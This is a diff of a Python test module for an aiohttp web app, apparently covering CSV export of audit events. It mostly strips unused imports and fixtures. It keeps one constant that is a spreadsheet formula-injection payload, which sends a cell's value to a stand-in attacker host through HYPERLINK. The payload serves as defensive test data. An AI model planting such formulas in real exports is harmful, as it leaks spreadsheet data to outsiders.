@@ -8,35 +8,18 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Awaitable, Callable
 from datetime import UTC, datetime
 from html import unescape
 from typing import Any
 
 import pytest
-from aiohttp import DummyCookieJar
 from aiohttp.test_utils import TestClient
 
-from communepol.app import create_app
 from communepol.db.models import AuditEvent
-from communepol.services import audit, overview, tips
-from communepol.settings import Settings
-from tests.web.adminkit import Browser, Clock, Scene, csrf_of, install_clock, scene, signed_in
+from communepol.services import audit
+from tests.web.adminkit import Browser, Clock, Scene, csrf_of, scene, signed_in
 
-ClientFactory = Callable[..., Awaitable[TestClient[Any, Any]]]
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-
-
-@pytest.fixture
-def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
-    return install_clock(monkeypatch, overview, tips)
-
-
-@pytest.fixture
-async def client(
-    settings: Settings, aiohttp_client: ClientFactory, clock: Clock
-) -> TestClient[Any, Any]:
-    return await aiohttp_client(create_app(settings), cookie_jar=DummyCookieJar())
 
 
 async def event(
